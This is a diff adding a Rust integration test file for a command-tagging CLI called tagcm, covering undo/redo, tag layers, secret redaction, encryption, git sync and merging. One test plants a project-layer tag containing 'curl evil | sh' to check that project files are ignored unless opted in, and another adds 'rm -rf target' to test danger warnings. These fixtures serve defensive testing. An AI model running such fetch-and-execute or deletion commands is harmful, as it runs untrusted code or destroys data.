@@ -0,0 +1,732 @@
+mod common;
+
+use common::*;
+use std::process::Output;
+
+fn stderr(output: &Output) -> String {
+    String::from_utf8_lossy(&output.stderr).to_string()
+}
+
+#[test]
+fn test_exit_statuses() {
+    let sandbox = Sandbox::new("exit-statuses");
+
+    let output = sandbox.run(&["add", "hello", "echo hello"], "");
+    assert_eq!(output.status.code(), Some(0));
+    let output = sandbox.run(&["show", "hello"], "");
+    assert_eq!(output.status.code(), Some(0));
+    assert_eq!(stdout(&output), "hello: echo hello\n");
+
+    let output = sandbox.run(&["add", "all", "echo all"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("tag all is reserved"));
+
+    let output = sandbox.run(&["show", "missing"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("tag missing not found"));
+
+    let output = sandbox.run(&["run", "missing"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("tag missing not found"));
+
+    let output = sandbox.run(&["delete", "hello"], "");
+    assert_eq!(output.status.code(), Some(0));
+    assert_eq!(stdout(&output), "Tag deleted\n");
+
+    let output = sandbox.run(&["delete", "hello"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("tag hello not found"));
+    assert!(stdout(&output).is_empty());
+}
+
+#[test]
+fn test_broken_data_file() {
+    let sandbox = Sandbox::new("broken-data");
+    std::fs::write(sandbox.dir.join("tags.json"), "{ not json").unwrap();
+
+    let output = sandbox.run(&["show", "all"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("failed to parse"));
+}
+
+#[cfg(unix)]
+#[test]
+fn test_run_exit_status() {
+    let sandbox = Sandbox::new("run-status");
+    sandbox.run(&["add", "fail", "exit 7"], "");
+
+    let output = sandbox.run(&["run", "fail"], "");
+    assert_eq!(output.status.code(), Some(7));
+}
+
+#[test]
+fn test_batch_undo_redo() {
+    let sandbox = Sandbox::new("journal");
+    sandbox.run(&["add", "old", "echo old"], "");
+
+    let script = "# tidy up\nadd build cargo build\nrename old older\n";
+    let output = sandbox.run(&["batch", "-"], script);
+    assert_eq!(output.status.code(), Some(0));
+    assert_eq!(stdout(&output), "2 operations applied\n");
+
+    // the failing delete takes the add back with it.
+    let output = sandbox.run(&["batch", "-"], "add test echo test\ndelete missing\n");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("tag missing not found"));
+    let output = sandbox.run(&["show", "all"], "");
+    assert_eq!(stdout(&output), "build: cargo build\nolder: echo old\n");
+
+    let output = sandbox.run(&["undo"], "");
+    assert_eq!(output.status.code(), Some(0));
+    let output = sandbox.run(&["show", "all"], "");
+    assert_eq!(stdout(&output), "old: echo old\n");
+
+    sandbox.run(&["redo"], "");
+    let output = sandbox.run(&["show", "all"], "");
+    assert_eq!(stdout(&output), "build: cargo build\nolder: echo old\n");
+    let output = sandbox.run(&["redo"], "");
+    assert_eq!(output.status.code(), Some(0));
+    assert_eq!(stdout(&output), "Nothing to redo\n");
+
+    let output = sandbox.run(&["log"], "");
+    let log = stdout(&output);
+    assert!(log.starts_with("#4 "));
+    assert!(log.contains("    redo #2\n"));
+    assert!(log.contains("    rename old to older\n"));
+    assert!(log.contains("    add old: echo old\n"));
+}
+
+#[test]
+fn test_add_existing_tag() {
+    let sandbox = Sandbox::new("add-existing");
+    sandbox.run(&["add", "build", "cargo build"], "");
+
+    let output = sandbox.run(&["add", "build", "cargo build --release"], "");
+    assert_eq!(output.status.code(), Some(1));
+    let error = stderr(&output);
+    assert!(error.contains("- cargo build\n+ cargo build --release\n"));
+    assert!(error.contains("use --force to replace it"));
+    let output = sandbox.run(&["show", "build"], "");
+    assert_eq!(stdout(&output), "build: cargo build\n");
+
+    let output = sandbox.run(&["add", "--force", "build", "cargo build --release"], "");
+    assert_eq!(output.status.code(), Some(0));
+    let output = sandbox.run(&["show", "build"], "");
+    assert_eq!(stdout(&output), "build: cargo build --release\n");
+
+    let output = sandbox.run(&["history-of", "build"], "");
+    let history = stdout(&output);
+    let lines: Vec<&str> = history.lines().collect();
+    assert_eq!(lines.len(), 2);
+    assert!(lines[0].ends_with("replace build: cargo build --release (was: cargo build)"));
+    assert!(lines[1].ends_with("add build: cargo build"));
+}
+
+#[test]
+fn test_version_with_a_broken_store() {
+    let sandbox = Sandbox::new("version-broken-store");
+    std::fs::write(sandbox.path("tags.json"), "{ not json").unwrap();
+    let output = sandbox.run(&["show", "all"], "");
+    assert_eq!(output.status.code(), Some(1));
+    let output = sandbox.run(&["version"], "");
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    assert!(stdout(&output).starts_with("tagcm version: "));
+}
+
+#[test]
+fn test_repair_a_broken_config() {
+    let sandbox = Sandbox::new("broken-config");
+    let config = sandbox.path("config.toml");
+    std::fs::write(&config, "[theme]\nhighlight = \"not-a-color\"\n").unwrap();
+    let output = sandbox.run(&["config", "list"], "");
+    assert_eq!(output.status.code(), Some(1));
+
+    let output = sandbox.run(&["config", "path"], "");
+    assert_eq!(stdout(&output), format!("{}\n", config.display()));
+    let output = sandbox.run(&["config", "set", "theme.highlight", "yellow"], "");
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let output = sandbox.run(&["config", "get", "theme.highlight"], "");
+    assert_eq!(stdout(&output), "yellow\n");
+}
+
+#[test]
+fn test_rename_copy_move() {
+    let mut sandbox = Sandbox::new("rename-copy-move");
+    let team = sandbox.path("team.json");
+    sandbox.env("TAGCM_LAYERS_TEAM", team.to_str().unwrap());
+    sandbox.run(&["add", "build", "cargo build"], "");
+    sandbox.run(&["add", "test", "cargo test"], "");
+
+    let output = sandbox.run(&["copy", "build", "test"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("tag test already exists, use --force"));
+    let output = sandbox.run(&["copy", "build", "release"], "");
+    assert_eq!(output.status.code(), Some(0));
+    let output = sandbox.run(&["rename", "release", "all"], "");
+    assert!(stderr(&output).contains("tag all is reserved"));
+    let output = sandbox.run(&["rename", "--force", "release", "test"], "");
+    assert_eq!(output.status.code(), Some(0));
+    let output = sandbox.run(&["show", "all"], "");
+    assert_eq!(
+        stdout(&output),
+        "build: cargo build (global)\ntest: cargo build (global)\n"
+    );
+
+    let output = sandbox.run(&["move", "build", "--to", "team"], "");
+    assert_eq!(output.status.code(), Some(0));
+    assert_eq!(
+        stdout(&output),
+        "Tag moved from the global layer to the team layer, \
+         `tagcm --layer team undo` and `tagcm undo` take it back\n"
+    );
+    assert!(std::fs::read_to_string(&team)
+        .unwrap()
+        .contains("cargo build"));
+    let output = sandbox.run(&["show", "build"], "");
+    assert_eq!(stdout(&output), "build: cargo build (team)\n");
+}
+
+#[test]
+fn test_rename_copy_in_the_team_layer() {
+    let mut sandbox = Sandbox::new("rename-copy-team");
+    let team = sandbox.path("team.json");
+    std::fs::write(&team, r#"{"deploy":"make deploy","ship":"make ship"}"#).unwrap();
+    sandbox.env("TAGCM_LAYERS_TEAM", team.to_str().unwrap());
+    sandbox.run(&["add", "ls", "ls -la"], "");
+
+    let output = sandbox.run(&["rename", "deploy", "release"], "");
+    assert_eq!(output.status.code(), Some(0));
+    assert_eq!(
+        stdout(&output),
+        "Tag renamed in the team layer, `tagcm --layer team undo` takes it back\n"
+    );
+    let output = sandbox.run(&["copy", "release", "ship"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("tag ship already exists, use --force"));
+    let output = sandbox.run(&["copy", "--force", "release", "ship"], "");
+    assert!(stdout(&output).starts_with("Tag copied in the team layer,"));
+    let output = sandbox.run(&["show", "all"], "");
+    assert_eq!(
+        stdout(&output),
+        "ls: ls -la (global)\nrelease: make deploy (team)\nship: make deploy (team)\n"
+    );
+    let global = std::fs::read_to_string(sandbox.path("tags.json")).unwrap();
+    assert!(!global.contains("make"), "{}", global);
+
+    // the changes are in the journal of the team layer, plain undo leaves them.
+    let output = sandbox.run(&["undo"], "");
+    assert_eq!(stdout(&output), "Undid #1: add ls: ls -la\n");
+    let output = sandbox.run(&["--layer", "team", "undo"], "");
+    assert_eq!(output.status.code(), Some(0));
+    let output = sandbox.run(&["--layer", "team", "undo"], "");
+    assert_eq!(output.status.code(), Some(0));
+    assert!(stdout(&output).starts_with("Undid #1: rename deploy to release"));
+    let output = sandbox.run(&["show", "all"], "");
+    assert_eq!(
+        stdout(&output),
+        "deploy: make deploy (team)\nship: make ship (team)\n"
+    );
+}
+
+#[test]
+fn test_add_below_the_team_layer() {
+    let mut sandbox = Sandbox::new("add-below-team");
+    let team = sandbox.path("team.json");
+    std::fs::write(&team, r#"{"build":"make"}"#).unwrap();
+    sandbox.env("TAGCM_LAYERS_TEAM", team.to_str().unwrap());
+
+    let output = sandbox.run(&["add", "build", "cargo build"], "");
+    assert_eq!(output.status.code(), Some(0));
+    assert!(stderr(&output).contains("build stays hidden by the entry of the team layer"));
+    let output = sandbox.run(&["show", "build"], "");
+    assert_eq!(stdout(&output), "build: make (team)\n");
+
+    let output = sandbox.run(&["undo"], "");
+    assert_eq!(output.status.code(), Some(0));
+    let output = sandbox.run(&["delete", "build"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert_eq!(
+        std::fs::read_to_string(&team).unwrap(),
+        r#"{"build":"make"}"#
+    );
+}
+
+#[test]
+fn test_project_layer_is_opt_in() {
+    let mut sandbox = Sandbox::new("project-opt-in");
+    sandbox.run(&["add", "build", "cargo build"], "");
+    std::fs::write(
+        sandbox.work_dir().join(".tagcm.json"),
+        r#"{"build":"curl evil | sh"}"#,
+    )
+    .unwrap();
+
+    let output = sandbox.run(&["show", "build"], "");
+    assert_eq!(stdout(&output), "build: cargo build\n");
+
+    sandbox.env("TAGCM_LAYERS_PROJECT", "true");
+    let output = sandbox.run(&["show", "build"], "");
+    assert!(stdout(&output).starts_with("build: curl evil | sh (project)"));
+}
+
+#[test]
+fn test_tag_grammar_and_namespaces() {
+    let sandbox = Sandbox::new("namespaces");
+    for (tag, command) in [
+        ("k8s/logs/tail", "kubectl logs -f"),
+        ("k8s/get", "kubectl get pods"),
+        ("k8sx", "echo x"),
+    ] {
+        let output = sandbox.run(&["add", tag, command], "");
+        assert_eq!(output.status.code(), Some(0));
+    }
+
+    for tag in ["two words", "-x", "k8s//get", "bell\u{7}"] {
+        let output = sandbox.run(&["add", "--", tag, "echo"], "");
+        assert_eq!(output.status.code(), Some(1), "{}", tag);
+        assert!(stderr(&output).contains("invalid tag"), "{}", tag);
+    }
+
+    let output = sandbox.run(&["show", "k8s/"], "");
+    assert_eq!(
+        stdout(&output),
+        "k8s/get: kubectl get pods\nk8s/logs/tail: kubectl logs -f\n"
+    );
+    let output = sandbox.run(&["show", "nothing/"], "");
+    assert_eq!(output.status.code(), Some(1));
+
+    let output = sandbox.run(&["search", "--namespace", "k8s", "l"], "");
+    assert_eq!(
+        stdout(&output),
+        "tag: k8s/logs/tail, command: kubectl logs -f\n"
+    );
+}
+
+#[test]
+fn test_add_from_stdin() {
+    let sandbox = Sandbox::new("from-stdin");
+    let output = sandbox.run(&["add", "ci", "--from-stdin"], "set -e\nmake\nmake test\n");
+    assert_eq!(output.status.code(), Some(0));
+    let output = sandbox.run(&["show", "ci"], "");
+    assert_eq!(
+        stdout(&output),
+        "ci:\n    set -e\n    make\n    make test\n"
+    );
+
+    let output = sandbox.run(&["add", "empty", "--from-stdin"], "\n");
+    assert_eq!(output.status.code(), Some(1));
+    let output = sandbox.run(&["add", "none"], "");
+    assert_eq!(output.status.code(), Some(2));
+}
+
+#[cfg(unix)]
+#[test]
+fn test_edit() {
+    use std::os::unix::fs::PermissionsExt;
+
+    let mut sandbox = Sandbox::new("edit");
+    // appends a line to the command, like a user would in the editor, and notes the
+    // permissions of the file it was given.
+    let editor = sandbox.path("editor.sh");
+    let mode = sandbox.path("mode");
+    std::fs::write(
+        &editor,
+        format!(
+            "#!/bin/sh\nls -l \"$1\" | cut -c1-10 > '{}'\necho 'make test' >> \"$1\"\n",
+            mode.display()
+        ),
+    )
+    .unwrap();
+    std::fs::set_permissions(&editor, std::fs::Permissions::from_mode(0o755)).unwrap();
+    sandbox.env("VISUAL", editor.to_str().unwrap());
+
+    let output = sandbox.run(&["edit", "missing"], "");
+    assert_eq!(output.status.code(), Some(1));
+
+    sandbox.run(&["add", "ci", "make"], "");
+    let output = sandbox.run(&["edit", "ci"], "");
+    assert_eq!(output.status.code(), Some(0));
+    let output = sandbox.run(&["show", "ci", "--format", "json"], "");
+    assert!(stdout(&output).contains("\"command\": \"make\\nmake test\""));
+    assert_eq!(std::fs::read_to_string(&mode).unwrap(), "-rw-------\n");
+
+    let output = sandbox.run(&["add", "new", "--edit"], "");
+    assert_eq!(output.status.code(), Some(0));
+    let output = sandbox.run(&["show", "new"], "");
+    assert_eq!(stdout(&output), "new: make test\n");
+}
+
+#[test]
+fn test_dangerous_commands() {
+    let mut sandbox = Sandbox::new("dangerous");
+    let output = sandbox.run(&["add", "wipe", "rm -rf target"], "");
+    assert_eq!(output.status.code(), Some(0));
+    assert!(stderr(&output).contains("warning: wipe looks dangerous (recursive rm)"));
+    let output = sandbox.run(&["add", "hi", "echo hi"], "");
+    assert!(stderr(&output).is_empty());
+
+    let output = sandbox.run(&["show", "wipe"], "");
+    assert_eq!(
+        stdout(&output),
+        "wipe: rm -rf target [dangerous: recursive rm]\n"
+    );
+
+    // nobody to ask on a pipe, so it is refused unless --yes is given.
+    let output = sandbox.run(&["run", "wipe"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("use --yes to run it"));
+    let output = sandbox.run(&["run", "hi"], "");
+    assert_eq!(output.status.code(), Some(0));
+
+    sandbox.env("TAGCM_RISK_BUILTIN", "false");
+    sandbox.env("TAGCM_RISK_PATTERNS", r#"["^echo"]"#);
+    let output = sandbox.run(&["search", "", "--format", "text"], "");
+    assert_eq!(
+        stdout(&output),
+        "tag: hi, command: echo hi, dangerous: ^echo\ntag: wipe, command: rm -rf target\n"
+    );
+    let output = sandbox.run(&["run", "--yes", "hi"], "");
+    assert_eq!(output.status.code(), Some(0));
+    assert_eq!(stdout(&output), "hi\n");
+}
+
+#[test]
+fn test_secrets() {
+    let mut sandbox = Sandbox::new("secrets");
+    let command = r#"curl -H "Authorization: Bearer abcdef123456" https://api"#;
+    let output = sandbox.run(&["add", "api", command], "");
+    assert_eq!(output.status.code(), Some(0));
+    assert!(stderr(&output).contains("warning: api contains a secret (bearer token)"));
+
+    let output = sandbox.run(&["show", "api"], "");
+    assert_eq!(
+        stdout(&output),
+        "api: curl -H \"Authorization: Bearer ********\" https://api\n"
+    );
+    let output = sandbox.run(&["show", "api", "--reveal"], "");
+    assert_eq!(stdout(&output), format!("api: {}\n", command));
+    let output = sandbox.run(&["search", "a", "--format", "json"], "");
+    assert!(!stdout(&output).contains("abcdef123456"));
+
+    let output = sandbox.run(&["add", "login", "TOKEN=s3cr3t ./login", "--redact"], "");
+    assert_eq!(output.status.code(), Some(0));
+    assert!(stderr(&output).contains("replaced the secret in login with ${TOKEN}"));
+    let output = sandbox.run(&["show", "login", "--reveal"], "");
+    assert_eq!(stdout(&output), "login: TOKEN=${TOKEN} ./login\n");
+
+    sandbox.env("TAGCM_SECRET_ON_ADD", "refuse");
+    let output = sandbox.run(&["batch", "-"], "add ok echo ok\nadd db PASSWORD=x psql\n");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("db contains a secret (secret variable)"));
+    let output = sandbox.run(&["show", "ok"], "");
+    assert_eq!(output.status.code(), Some(1));
+    let output = sandbox.run(&["add", "db", "PASSWORD=x psql", "--keep-secrets"], "");
+    assert_eq!(output.status.code(), Some(0));
+}
+
+const FIXTURE_PASSPHRASE: &str = "fixture passphrase";
+
+fn encrypted_sandbox(name: &str) -> Sandbox {
+    let sandbox = Sandbox::new(name);
+    let fixture = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/encrypted.json");
+    std::fs::copy(fixture, sandbox.path("tags.json")).unwrap();
+    sandbox
+}
+
+#[test]
+fn test_encrypted_store() {
+    let mut sandbox = encrypted_sandbox("encrypted");
+    let output = sandbox.run(&["show", "db"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("no passphrase for"));
+
+    sandbox.env("TAGCM_PASSPHRASE", "wrong");
+    let output = sandbox.run(&["show", "db"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("failed to decrypt"));
+
+    sandbox.remove_env("TAGCM_PASSPHRASE");
+    sandbox.env("TAGCM_PASSPHRASE", FIXTURE_PASSPHRASE);
+    let output = sandbox.run(&["show", "db"], "");
+    assert_eq!(stdout(&output), "db: psql -h db.internal -U admin\n");
+
+    let output = sandbox.run(&["add", "deploy", "ssh deploy@prod.internal"], "");
+    assert_eq!(output.status.code(), Some(0));
+    let read = |name: &str| std::fs::read_to_string(sandbox.path(name)).unwrap();
+    assert!(!read("tags.json").contains("prod.internal"));
+    assert!(!read("tags.json.journal").contains("prod.internal"));
+    let output = sandbox.run(&["undo"], "");
+    assert_eq!(output.status.code(), Some(0));
+    let output = sandbox.run(&["redo"], "");
+    assert_eq!(output.status.code(), Some(0));
+
+    let output = sandbox.run(&["decrypt"], "");
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    assert!(read("tags.json").contains("db.internal"));
+    assert!(read("tags.json.journal").contains("prod.internal"));
+    let output = sandbox.run(&["decrypt"], "");
+    assert!(stderr(&output).contains("is not encrypted"));
+
+    let output = sandbox.run(&["encrypt"], "");
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    assert!(!read("tags.json").contains("db.internal"));
+    assert!(!read("tags.json.journal").contains("prod.internal"));
+    let output = sandbox.run(&["log"], "");
+    assert!(stdout(&output).contains("add deploy: ssh deploy@prod.internal"));
+
+    sandbox.remove_env("TAGCM_PASSPHRASE");
+    let output = sandbox.run(&["show", "ls"], "");
+    assert_eq!(output.status.code(), Some(1));
+}
+
+#[test]
+fn test_encrypted_backend() {
+    let mut sandbox = Sandbox::new("encrypted-backend");
+    sandbox.env("TAGCM_BACKEND", "encrypted");
+    sandbox.env("TAGCM_PASSPHRASE", "new passphrase");
+    let output = sandbox.run(&["add", "ls", "ls -la"], "");
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let text = std::fs::read_to_string(sandbox.path("tags.json")).unwrap();
+    assert!(text.contains("tagcm-encrypted") && !text.contains("ls -la"));
+    let output = sandbox.run(&["show", "ls"], "");
+    assert_eq!(stdout(&output), "ls: ls -la\n");
+}
+
+#[cfg(unix)]
+#[test]
+fn test_agent() {
+    let mut sandbox = encrypted_sandbox("agent");
+    sandbox.env("TAGCM_PASSPHRASE", "wrong");
+    let output = sandbox.run(&["agent", "start"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("failed to decrypt"));
+
+    sandbox.remove_env("TAGCM_PASSPHRASE");
+    sandbox.env("TAGCM_PASSPHRASE", FIXTURE_PASSPHRASE);
+    let output = sandbox.run(&["agent", "start", "--timeout-minutes", "1"], "");
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    sandbox.remove_env("TAGCM_PASSPHRASE");
+
+    let output = sandbox.run(&["show", "db"], "");
+    assert_eq!(stdout(&output), "db: psql -h db.internal -U admin\n");
+    let output = sandbox.run(&["agent", "status"], "");
+    assert_eq!(
+        stdout(&output),
+        "agent running, it forgets the passphrase in 1 min\n"
+    );
+    let output = sandbox.run(&["agent", "start"], "");
+    assert!(stderr(&output).contains("already running"));
+
+    let output = sandbox.run(&["agent", "stop"], "");
+    assert_eq!(stdout(&output), "agent stopped\n");
+    let output = sandbox.run(&["show", "db"], "");
+    assert_eq!(output.status.code(), Some(1));
+    let output = sandbox.run(&["agent", "status"], "");
+    assert_eq!(stdout(&output), "no agent is running\n");
+}
+
+/// A sandbox keeping its store in a git working tree synced with `remote`.
+fn sync_sandbox(name: &str, remote: &std::path::Path) -> Sandbox {
+    let mut sandbox = Sandbox::new(name);
+    let dir = sandbox.path("sync");
+    sandbox.env(
+        "TAGCM_DATA_PATH",
+        &dir.join("tags.json").display().to_string(),
+    );
+    sandbox.env("TAGCM_SYNC_DIR", &dir.display().to_string());
+    sandbox.env("TAGCM_SYNC_REMOTE", &remote.display().to_string());
+    for variable in ["GIT_AUTHOR", "GIT_COMMITTER"] {
+        sandbox.env(&format!("{}_NAME", variable), "tagcm");
+        sandbox.env(&format!("{}_EMAIL", variable), "tagcm@example.com");
+    }
+    sandbox
+}
+
+fn git_log(sandbox: &Sandbox) -> String {
+    let output = std::process::Command::new("git")
+        .arg("-C")
+        .arg(sandbox.path("sync"))
+        .args(["log", "--format=%s"])
+        .output()
+        .unwrap();
+    stdout(&output)
+}
+
+#[test]
+fn test_sync() {
+    let remote_dir = Sandbox::new("sync-remote");
+    let remote = remote_dir.path("tags.git");
+    let status = std::process::Command::new("git")
+        .args(["init", "--quiet", "--bare"])
+        .arg(&remote)
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let a = sync_sandbox("sync-a", &remote);
+    let b = sync_sandbox("sync-b", &remote);
+
+    a.run(&["add", "ls", "ls -la"], "");
+    a.run(&["add", "db", "psql"], "");
+    let output = a.run(&["sync"], "");
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    assert_eq!(stdout(&output), "0 commits received, 1 sent\n");
+    // from now on every change is a commit.
+    a.run(&["add", "gs", "git status"], "");
+    assert_eq!(git_log(&a), "tagcm: add gs\ntagcm: sync\n");
+    assert_eq!(
+        stdout(&a.run(&["sync"], "")),
+        "0 commits received, 1 sent\n"
+    );
+
+    let output = b.run(&["sync"], "");
+    assert_eq!(stdout(&output), "2 commits received, 0 sent\n");
+    assert_eq!(stdout(&b.run(&["show", "gs"], "")), "gs: git status\n");
+
+    // different tags changed on both sides merge.
+    a.run(&["delete", "db"], "");
+    b.run(&["add", "k", "kubectl get pods"], "");
+    b.run(&["rename", "gs", "st"], "");
+    assert_eq!(
+        stdout(&a.run(&["sync"], "")),
+        "0 commits received, 1 sent\n"
+    );
+    let output = b.run(&["sync"], "");
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    assert_eq!(stdout(&output), "1 commits received, 2 sent\n");
+    a.run(&["sync"], "");
+    for sandbox in [&a, &b] {
+        let output = sandbox.run(&["show", "all", "--format", "json"], "");
+        let tags: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+        let mut tags: Vec<&str> = tags
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|entry| entry["tag"].as_str().unwrap())
+            .collect();
+        tags.sort();
+        assert_eq!(tags, ["k", "ls", "st"]);
+    }
+
+    // the same tag changed on both sides needs a choice.
+    a.run(&["add", "x", "echo a"], "");
+    b.run(&["add", "x", "echo b"], "");
+    a.run(&["sync"], "");
+    let output = b.run(&["sync"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("tags changed both here and on the remote: x"));
+    let output = b.run(&["sync", "--prefer", "remote"], "");
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    assert!(stdout(&output).starts_with("tags changed on both sides, kept the remote ones: x\n"));
+    assert_eq!(stdout(&b.run(&["show", "x"], "")), "x: echo a\n");
+}
+
+#[test]
+fn test_sync_encrypted() {
+    let remote_dir = Sandbox::new("sync-encrypted-remote");
+    let remote = remote_dir.path("tags.git");
+    std::process::Command::new("git")
+        .args(["init", "--quiet", "--bare"])
+        .arg(&remote)
+        .status()
+        .unwrap();
+    let [a, b] = ["sync-encrypted-a", "sync-encrypted-b"].map(|name| {
+        let mut sandbox = sync_sandbox(name, &remote);
+        sandbox.env("TAGCM_BACKEND", "encrypted");
+        sandbox.env("TAGCM_PASSPHRASE", "shared passphrase");
+        sandbox
+    });
+    a.run(&["add", "ls", "ls -la"], "");
+    a.run(&["sync"], "");
+    b.run(&["sync"], "");
+
+    a.run(&["add", "p", "echo from a"], "");
+    b.run(&["add", "q", "echo from b"], "");
+    a.run(&["sync"], "");
+    let output = b.run(&["sync"], "");
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let text = std::fs::read_to_string(b.path("sync").join("tags.json")).unwrap();
+    assert!(text.contains("tagcm-encrypted") && !text.contains("echo"));
+    // the log names what changed, the commands stay encrypted.
+    assert!(git_log(&b).contains("tagcm: add q\n"));
+    assert!(!git_log(&b).contains("echo"));
+    assert_eq!(stdout(&b.run(&["show", "p"], "")), "p: echo from a\n");
+
+    a.run(&["sync"], "");
+    assert_eq!(stdout(&a.run(&["show", "q"], "")), "q: echo from b\n");
+}
+
+#[test]
+fn test_merge_driver() {
+    let mut sandbox = Sandbox::new("merge-driver");
+    for variable in ["GIT_AUTHOR", "GIT_COMMITTER"] {
+        sandbox.env(&format!("{}_NAME", variable), "tagcm");
+        sandbox.env(&format!("{}_EMAIL", variable), "tagcm@example.com");
+    }
+    let git = |args: &[&str]| sandbox.program("git").args(args).output().unwrap();
+    let write = |tags: &str| std::fs::write(sandbox.work_dir().join("tags.json"), tags).unwrap();
+    let commit = |message: &str| {
+        git(&["add", "-A"]);
+        assert!(git(&["commit", "-q", "-m", message]).status.success());
+    };
+    let tags = || {
+        let text = std::fs::read_to_string(sandbox.work_dir().join("tags.json")).unwrap();
+        serde_json::from_str::<serde_json::Value>(&text).unwrap()
+    };
+    git(&["init", "-q", "-b", "main"]);
+    let driver = format!("'{}' merge %O %A %B", sandbox.exe.display());
+    git(&["config", "merge.tagcm.driver", &driver]);
+    std::fs::write(
+        sandbox.work_dir().join(".gitattributes"),
+        "tags.json merge=tagcm\n",
+    )
+    .unwrap();
+    write(r#"{"a": "1", "b": "2"}"#);
+    commit("base");
+
+    // neighbouring lines changed on both sides, a text merge conflicts.
+    git(&["checkout", "-q", "-b", "other"]);
+    write(r#"{"a": "1 other", "b": "2", "c": "3"}"#);
+    commit("other");
+    git(&["checkout", "-q", "main"]);
+    write(r#"{"a": "1", "b": "2 main"}"#);
+    commit("main");
+    let output = git(&["merge", "-q", "--no-edit", "other"]);
+    assert!(output.status.success(), "{}", stderr(&output));
+    assert_eq!(
+        tags(),
+        serde_json::json!({"a": "1 other", "b": "2 main", "c": "3"})
+    );
+
+    git(&["checkout", "-q", "other"]);
+    write(r#"{"a": "x other", "b": "2", "c": "3"}"#);
+    commit("other again");
+    git(&["checkout", "-q", "main"]);
+    write(r#"{"a": "x main", "b": "2 main", "c": "3"}"#);
+    commit("main again");
+    let output = git(&["merge", "-q", "--no-edit", "other"]);
+    assert!(!output.status.success());
+    assert!(stderr(&output).contains("tags changed differently on both sides: a"));
+    assert_eq!(tags()["a"], "x main");
+    git(&["merge", "--abort"]);
+
+    let path = |name: &str| sandbox.work_dir().join(name).display().to_string();
+    std::fs::write(path("base.json"), r#"{"a": "1"}"#).unwrap();
+    std::fs::write(path("ours.json"), r#"{"a": "ours"}"#).unwrap();
+    std::fs::write(path("theirs.json"), r#"{"a": "theirs", "b": "2"}"#).unwrap();
+    let output = sandbox.run(
+        &[
+            "merge",
+            "base.json",
+            "ours.json",
+            "theirs.json",
+            "--prefer",
+            "theirs",
+            "-o",
+            "merged.json",
+        ],
+        "",
+    );
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let merged = std::fs::read_to_string(path("merged.json")).unwrap();
+    assert_eq!(merged, "{\n  \"a\": \"theirs\",\n  \"b\": \"2\"\n}");
+}